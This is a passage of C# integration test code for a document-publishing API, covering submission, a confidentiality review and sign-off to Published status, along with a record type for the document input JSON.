        var submitted = await api.PostAsync($"/api/v1/documents/{id}/submit", null);
        Assert.True(submitted.StatusCode == HttpStatusCode.OK, await submitted.Content.ReadAsStringAsync());
        var reviewed = await (await factory.ReviewerAsync()).PostAsJsonAsync($"/api/v1/documents/{id}/confidentiality-review", new { opinion = "不涉密，同意公开。" });
        Assert.True(reviewed.StatusCode == HttpStatusCode.OK, await reviewed.Content.ReadAsStringAsync());
        Assert.Equal("Published", await SignOffAsync(api, id));
        return id;
    }

    /// <summary>The JSON the documents API takes (DocumentDtos.DocumentInput), enums by name.</summary>
    private sealed record DocumentJson(
        int UnitId, int? ColumnId, string Title, string? DocumentNumber, string WrittenOn, string[] IssuingUnits, string Genre, string[] Topics,
        string? StatutoryCategory, string? Keywords, string? Summary, string BodyHtml, string Attribute, string? WithholdingReason, string? WithholdingBasis);
}
